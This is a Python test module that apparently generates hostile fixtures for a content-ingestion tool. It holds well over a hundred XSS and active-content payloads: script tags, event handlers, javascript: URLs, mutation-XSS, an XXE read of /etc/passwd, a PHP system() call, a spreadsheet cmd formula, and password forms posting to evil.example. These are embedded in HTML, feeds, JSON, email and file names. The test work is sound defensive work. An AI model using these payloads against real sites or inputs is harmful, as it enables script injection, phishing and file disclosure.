"""Active content in every known dress: as a page's markup, as plain text, as a feed's and a table's fields."""

from __future__ import annotations

import html
import json
from collections.abc import Iterator

from tests.hostile.case import MARK, Case, Words

FIRE = f"document.title='{MARK}';alert('{MARK}')"
_F = html.escape(FIRE, quote=True)

DRESSES: tuple[str, ...] = (
    f"<script>{FIRE}</script>", f"<ScRiPt >{FIRE}</sCrIpT >", "<script src=//evil.example/x.js></script>", f"<script/src=data:,{MARK}></script>",
    f"<script type=module>{FIRE}</script>", f"<script type=text/babel>{FIRE}</script>", f"<svg><script>{FIRE}</script></svg>", f"<svg/onload=\"{_F}\">",
    f"<svg><animate onbegin=\"{_F}\" attributeName=x dur=1s>", f"<svg><a xlink:href=\"javascript:{_F}\"><text x=20 y=20>click</text></a></svg>",
    f"<svg><use href=\"data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><script>{MARK}</script></svg>#x\"></svg>",
    f"<svg><foreignObject><body onload=\"{_F}\"></foreignObject></svg>", f"<svg><set attributeName=onmouseover to=\"{_F}\">",
    f"<math><mtext><table><mglyph><style><img src=x onerror=\"{_F}\">", f"<math><a xlink:href=\"javascript:{_F}\">m</a></math>",
    f"<math><mi//xlink:href=\"data:x,<script>{MARK}</script>\">", f"<form><math><mtext></form><form><mglyph><style></math><img src onerror=\"{_F}\">",
    f"<img src=x onerror=\"{_F}\">", f"<img src=\"x` `<script>{FIRE}</script>\"` `>", f"<img/src=x/onerror=\"{_F}\">", f"<img src=javascript:{MARK}>",
    f"<img srcset=\"http://evil.example/x 1x\" src=http://evil.example/{MARK}.png>", f"<img src=x:x onerror\n=\n\"{_F}\">", f"<image src=x onerror=\"{_F}\">",
    f"<picture><source srcset=x onerror=\"{_F}\"><img src=x onerror=\"{_F}\"></picture>", f"<video src=x onerror=\"{_F}\" autoplay></video>",
    f"<video><source onerror=\"{_F}\"></video>", f"<audio src=x onerror=\"{_F}\"></audio>", f"<body onload=\"{_F}\">", f"<body background=http://evil.example/{MARK}>",
    f"<iframe src=\"javascript:{_F}\"></iframe>", f"<iframe srcdoc=\"&lt;script&gt;{_F}&lt;/script&gt;\"></iframe>", f"<iframe src=http://evil.example/{MARK}></iframe>",
    f"<frameset onload=\"{_F}\"><frame src=javascript:{MARK}></frameset>", f"<object data=\"javascript:{_F}\"></object>", f"<object data=data:text/html,{MARK}></object>",
    f"<embed src=\"javascript:{_F}\">", f"<embed src=http://evil.example/{MARK}.swf>", f"<applet code={MARK}></applet>", f"<link rel=stylesheet href=http://evil.example/{MARK}.css>",
    f"<link rel=import href=http://evil.example/{MARK}.html>", f"<link rel=preload href=http://evil.example/{MARK} as=script>", f"<style>@import 'http://evil.example/{MARK}.css';</style>",
    f"<style>body{{background:url(http://evil.example/{MARK})}}</style>", f"<p style=\"background:url(javascript:{MARK})\">styled</p>", f"<p style=\"width:expression({MARK})\">styled</p>",
    f"<p style=\"position:fixed;top:0;left:0;width:100%;height:100%\">{MARK} overlay</p>", f"<meta http-equiv=refresh content=\"0;url=javascript:{_F}\">",
    f"<meta http-equiv=refresh content=\"0;url=http://evil.example/{MARK}\">", "<meta http-equiv=Content-Security-Policy content=\"script-src *\">", "<base href=http://evil.example/>",
    f"<base href=\"javascript:/a/-{MARK}//\">", f"<a href=\"javascript:{_F}\">click</a>", f"<a href=\"JaVaScRiPt:{_F}\">click</a>", f"<a href=\"java&#x0A;script:{_F}\">click</a>",
    f"<a href=\"&#1;javascript:{_F}\">click</a>", f"<a href=\"&#x6A;&#x61;vascript:{_F}\">click</a>", f"<a href=\" \tjavascript:{_F}\">click</a>", f"<a href=\"javascript&colon;{_F}\">click</a>",
    f"<a href=\"vbscript:{MARK}\">click</a>", f"<a href=\"data:text/html,<script>{MARK}</script>\">click</a>", "<a href=\"data:text/html;base64,PHNjcmlwdD4=\">click</a>",
    "<a href=\"file:///etc/passwd\">click</a>", f"<a href=\"blob:http://x/{MARK}\">click</a>", f"<a href=\"view-source:javascript:{MARK}\">click</a>", f"<a href=\"intent://x#{MARK}\">click</a>",
    f"<a href=\"//evil.example/{MARK}\">click</a>", f"<a href=\"\\\\evil.example\\{MARK}\">click</a>", f"<a href=\"http://x\" onclick=\"{_F}\">click</a>", f"<a href=\"http://evil.example/\" ping=\"http://evil.example/{MARK}\">click</a>",
    f"<a href='http://example.com/\" onmouseover=\"{MARK}'>click</a>", f"<a href=\"http://example.com/)[x](javascript:{MARK}\">click</a>", f"<a href=\"http://example.com/> <script>{MARK}</script>\">click</a>",
    "<a href=\"http://[::1\">click</a>", f"<a href=\"http://user:pass@evil.example:99999999/{MARK}\">click</a>", "<a href=\"http://\u0430pple.com/\">click</a>", "<a href=\"http://xn--pple-43d.com/\">click</a>",
    f"<form action=\"javascript:{_F}\"><input type=submit></form>", f"<form action=http://evil.example/{MARK}><input name=password><button>log in</button></form>", f"<button formaction=\"javascript:{_F}\">go</button>",
    f"<input onfocus=\"{_F}\" autofocus>", f"<select onfocus=\"{_F}\" autofocus><option>x</select>", f"<textarea onfocus=\"{_F}\" autofocus></textarea>", f"<details ontoggle=\"{_F}\" open><summary>s</summary>d</details>",
    f"<marquee onstart=\"{_F}\">m</marquee>", f"<isindex action=javascript:{MARK}>", f"<keygen onfocus=\"{_F}\" autofocus>", f"<dialog open onclose=\"{_F}\">d</dialog>", f"<div onpointerover=\"{_F}\">d</div>",
    f"<div contenteditable onblur=\"{_F}\">d</div>", f"<template><script>{FIRE}</script></template>", f"<template shadowrootmode=open><script>{FIRE}</script></template>",
    f"<noscript><p title=\"</noscript><img src=x onerror='{_F}'>\">n</p></noscript>", f"<noscript><style></noscript><img src=x onerror=\"{_F}\">", f"<xmp><p title=\"</xmp><img src=x onerror='{_F}'>\"></xmp>",
    f"<plaintext><script>{FIRE}</script>", f"<listing>&lt;img src=x onerror={MARK}&gt;</listing>", f"<noembed><p title=\"</noembed><svg onload='{_F}'>\"></noembed>", f"<noframes><p title=\"</noframes><svg onload='{_F}'>\"></noframes>",
    f"<title><p title=\"</title><svg onload='{_F}'>\"></title>", f"<textarea><p title=\"</textarea><svg onload='{_F}'>\"></textarea>", f"<!--<img src=\"--><img src=x onerror=\"{_F}\">//\">", f"<!--[if gte IE 4]><script>{FIRE}</script><![endif]-->",
    f"<![CDATA[<script>{FIRE}</script>]]>", f"<?xml-stylesheet href=\"javascript:{MARK}\"?>", f"<?php system('{MARK}'); ?>", "<!ENTITY x SYSTEM \"file:///etc/passwd\">&x;", "<div id=defaultView name=cookie>clobber</div>",
    f"<form id=x><input id=y name=attributes></form><a id=location href=javascript:{MARK}>c</a>", f"<p>&lt;script&gt;{_F}&lt;/script&gt;</p>", f"<p>&amp;lt;script&amp;gt;{MARK}</p>", f"<p>&#60;img src=x onerror={MARK}&#62;</p>",
    f"<<script>{FIRE}//<</script>", f"<scr<script>ipt>{FIRE}</scr</script>ipt>", f"<script\x00>{FIRE}</script>", f"<scr\x00ipt>{FIRE}</script>", f"<\x00script>{FIRE}</script>", f"<p title='\"><script>{FIRE}</script>'>t</p>",
    f"<p class=\"claim\" id=main data-generated>{MARK} ours?</p>", f"<custom-element onclick=\"{_F}\">c</custom-element>", f"<is-land on:visible><script>{FIRE}</script></is-land>", f"<portal src=javascript:{MARK}></portal>", "<fencedframe></fencedframe>",
    f"<div style=\"behavior:url(#default#time2)\" onbegin=\"{_F}\">t</div>", f"<xss style=\"xss:expression({MARK})\">x</xss>", f"<table background=javascript:{MARK}><tr><td background=\"javascript:{MARK}\">t</table>", f"<bgsound src=javascript:{MARK}>",
    f"<layer src=http://evil.example/{MARK}></layer>", f"<p>{{{{constructor.constructor('{MARK}')()}}}}</p>", f"<p>${{{MARK}}} #{{{MARK}}} {{% {MARK} %}}</p>", f"<p ng-app>{{{{$eval.constructor('{MARK}')()}}}}</p>", f"<script type=application/ld+json>{{\"x\": \"</script><script>{FIRE}</script>\"}}</script>",
)  # fmt: skip

_LD = {
    "headline": f"A headline</script><script>{FIRE}</script>",
    "author": {"@type": "Person", "name": f"Ann <img src=x onerror={MARK}> Quill"},
    "publisher": {"@type": "Organization", "name": f'The "><svg onload={MARK}> Times'},
    "url": f"javascript:{FIRE}",
    "inLanguage": f'en" onload="{MARK}',
    "articleSection": f"{{{{ {MARK} }}}}",
    "datePublished": f'2023-09-11T10:00:00" onclick="{MARK}',
}


def cases(words: Words) -> Iterator[Case]:
    """Each dress as a page's markup and as plain text; all of them in one page; in fields of metadata."""
    for n, dress in enumerate(DRESSES):
        page, keep = words.page(dress)
        # What a never closed element swallows is no visible text of the page.
        swallowed = any(
            open_ in dress.lower()
            for open_ in (
                "<plaintext",
                "<frameset",
                "<style>",
                "<title>",
                "<textarea>",
                "<xmp>",
                "<noembed",
                "<noframes",
                "<scr\0",
            )
        )
        yield Case(
            f"active-{n:03}",
            "active",
            ((f"active-{n:03}.html", page.encode()),),
            keep[:1] if swallowed or _unclosed(dress) else keep,
        )
        text, keep = words.article(dress.replace("\n", " ").replace("\0", ""))
        yield Case(f"active-text-{n:03}", "active-text", ((f"active-text-{n:03}.txt", text.encode()),), keep)
    yield from _in_fields(words)


def _unclosed(dress: str) -> bool:
    return (
        ("<style" in dress and "</style>" not in dress)
        or "<math><mtext><table" in dress
        or "<!--<img" in dress
        or "<select" in dress
    )


def _in_fields(words: Words) -> Iterator[Case]:
    head = f'<script type="application/ld+json">{json.dumps({"@type": "NewsArticle", **_LD})}</script>'
    page, keep = words.page(head=head)
    yield Case("active-ld", "active", (("active-ld.html", page.encode()),), keep)
    metas = "".join(
        f'<meta property="{name}" content="{html.escape(value)}">'
        for name, value in {
            "og:title": f"<script>{FIRE}</script>", "og:site_name": f"\"><script>{FIRE}</script>", "og:url": f"javascript:{FIRE}",
            "article:author": f"<img src=x onerror={MARK}>", "og:locale": f"en\"><script>{MARK}</script>", "article:section": f"'-{MARK}-'",
        }.items()
    )  # fmt: skip
    page, keep = words.page(head=metas + f'<link rel=canonical href="javascript:{_F}">')
    yield Case("active-meta", "active", (("active-meta.html", page.encode()),), keep)
    for n, field in enumerate(
        ("title", "outlet", "url", "authors", "language", "published", "section", "rights", "html", "text")
    ):
        for m, dress in enumerate(
            (f"<script>{FIRE}</script>", f"javascript:{FIRE}", f'" onmouseover="{MARK}', f"=cmd|'/C {MARK}'!A0")
        ):
            row = {
                "title": words.title(),
                "text": words.paragraph(),
                "outlet": "The Bench",
                field: [dress] if field == "authors" else dress,
            }
            if field == "html":
                row.pop("text")
                row["html"] = f"<p>{words.paragraph()}</p>{dress}"
            name = f"active-json-{n}-{m}"
            yield Case(name, "active", ((f"{name}.jsonl", json.dumps(row).encode()),), ())
    item = "".join(
        f"<item><title>{html.escape(d)}</title><link>javascript:{MARK}</link><author>{html.escape(d)}</author><description><![CDATA[<p>{words.paragraph()}</p>{d}]]></description></item>"
        for d in DRESSES[:60]
        if "]]>" not in d and "\0" not in d
    )
    yield Case(
        "active-rss",
        "active",
        (
            (
                "active-rss.rss",
                f"<rss version='2.0'><channel><title>&lt;script&gt;{MARK}&lt;/script&gt;</title><link>javascript:{MARK}</link>{item}</channel></rss>".encode(),
            ),
        ),
        (),
    )
    mail = f'From: "<script>{MARK}</script>" <a@evil.example>\r\nSubject: <script>{FIRE}</script>\r\nDate: Mon, 11 Sep 2023 10:00:00 +0000\r\nMIME-Version: 1.0\r\nContent-Type: text/html; charset=utf-8\r\n\r\n<p>{words.paragraph()}</p>{"".join(DRESSES[:40])}'.replace(
        "\0", ""
    )
    yield Case("active-mail", "active", (("active-mail.eml", mail.encode()),), ())
    mean = f'<script>{MARK}</script> "onload={MARK}.txt'
    text, keep = words.article()
    yield Case("active-file-name", "active", ((mean.replace("/", "-"), text.encode()),), keep)
    coverage = f'[[article]]\nfile = "covered.txt"\noutlet = "<script>{MARK}</script>"\ntitle = "<img src=x onerror={MARK}>"\nurl = "javascript:{MARK}"\nlanguage = "en\\" onload=\\"{MARK}"\nrights = "<b>{MARK}</b>"\nsection = "</script>"\n'
    text, keep = words.article()
    yield Case(
        "active-coverage",
        "own-folder",
        (("covered.txt", text.encode()), ("coverage.toml", coverage.encode())),
        keep[1:],
    )
